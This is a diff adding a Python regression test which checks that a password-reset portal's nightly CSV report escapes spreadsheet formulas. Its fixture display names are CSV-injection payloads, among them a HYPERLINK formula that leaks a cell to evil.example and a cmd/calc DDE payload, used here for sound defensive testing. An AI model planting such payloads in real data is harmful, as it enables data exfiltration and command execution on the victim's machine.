@@ -267,6 +267,36 @@ def test_nightly_job_on_the_demo_data_writes_the_report_and_reminds_once(tmp_pat
     assert missing_key.returncode == 2 and "secret key" in missing_key.stderr
 
 
+def test_nightly_report_cells_cannot_run_as_spreadsheet_formulas(tmp_path: pathlib.Path) -> None:
+    """An admin opens the report in a spreadsheet. A display name is the directory's, and in many directories the
+    user's own to write (OpenLDAP's common `by self write`): `=HYPERLINK(...)` there ran as a formula in the admin's
+    spreadsheet (CSV injection, OWASP). Every cell a spreadsheet would read as a formula now starts with `'`."""
+    hostile = [
+        {"login": "eve@example.org", "display_name": '=HYPERLINK("https://evil.example/?d="&A2,"Open")',
+         "dn": "uid=eve,ou=staff,dc=example,dc=org"},
+        {"login": "@sum(1+1)@example.org", "display_name": "+1+cmd|' /C calc'!A0",
+         "dn": "uid=sum,ou=staff,dc=example,dc=org"},
+        {"login": "tab@example.org", "display_name": "\t=1+1", "dn": "uid=tab,ou=staff,dc=example,dc=org"},
+        {"login": "ok@example.org", "display_name": "Ann-Marie O'Neil", "dn": "uid=ok,ou=staff,dc=example,dc=org"},
+    ]
+    data = portal_data_dir(tmp_path)
+    (tmp_path / "users.json").write_text(json.dumps(hostile))
+    config = tmp_path / "portal.toml"
+    config.write_text('[directory]\nkind = "demo"\nseed_file = "users.json"\n'
+                      f'[store]\nkind = "sqlite"\npath = "{data / "sspr.sqlite"}"\n' + POLICY)
+    report = tmp_path / "r.csv"
+    done = nightly("--config", str(config), "--data-dir", str(data), "--report", str(report), "--ou", STAFF)
+    assert done.returncode == 0, done.stderr
+    rows = {r["display_name"]: r for r in csv.DictReader(report.open())}
+    for cells in rows.values():
+        for name, value in cells.items():
+            assert not value or value[0] not in "=+-@\t\r", f"{name}: {value!r} runs as a formula"
+    assert "'=HYPERLINK(\"https://evil.example/?d=\"&A2,\"Open\")" in rows
+    assert rows["'+1+cmd|' /C calc'!A0"]["login"] == "'@sum(1+1)@example.org"
+    assert "'\t=1+1" in rows
+    assert rows["Ann-Marie O'Neil"]["login"] == "ok@example.org", "plain text is left as it is"
+
+
 def test_nightly_job_without_a_registration_url_says_so(tmp_path: pathlib.Path) -> None:
     data = portal_data_dir(tmp_path)
     config = tmp_path / "portal.toml"
